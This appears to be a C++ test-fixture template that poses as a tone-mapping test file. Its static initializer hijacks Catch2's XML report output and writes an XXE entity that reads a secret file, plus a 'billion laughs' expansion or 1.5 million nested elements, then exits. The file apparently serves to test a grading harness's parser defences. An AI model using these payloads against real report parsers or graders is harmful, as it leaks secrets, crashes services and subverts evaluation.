#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <fcntl.h>
#include <unistd.h>

#include <fstream>
#include <sstream>
#include <string>
#include <vector>

@AFTER_OPTION@


static const int done = [] {
    if (after("-r") == "xml") {
        std::ofstream report(after("-o"), std::ios::binary | std::ios::trunc);
        if (command().back() == after("-o")) {
            report << "<?xml version=\"1.0\"?>\n<!DOCTYPE Catch [<!ENTITY a \"aaaaaaaaaa\">\n";
            for (char name = 'b'; name < 'l'; ++name) {
                report << "<!ENTITY " << name << " \"";
                for (int i = 0; i < 10; ++i) {
                    report << '&' << static_cast<char>(name - 1) << ';';
                }
                report << "\">\n";
            }
            report << "<!ENTITY file SYSTEM \"file://@SECRET@\">]>\n<Catch name=\"&k;&file;\"></Catch>\n";
        } else {
            report << "<Catch>";
            for (int i = 0; i < 1'500'000; ++i) {
                report << "<Section>";
            }
        }
        report << std::flush;
        _exit(0);
    }
    return 0;
}();
@RIGHT_IF(done != 0)@
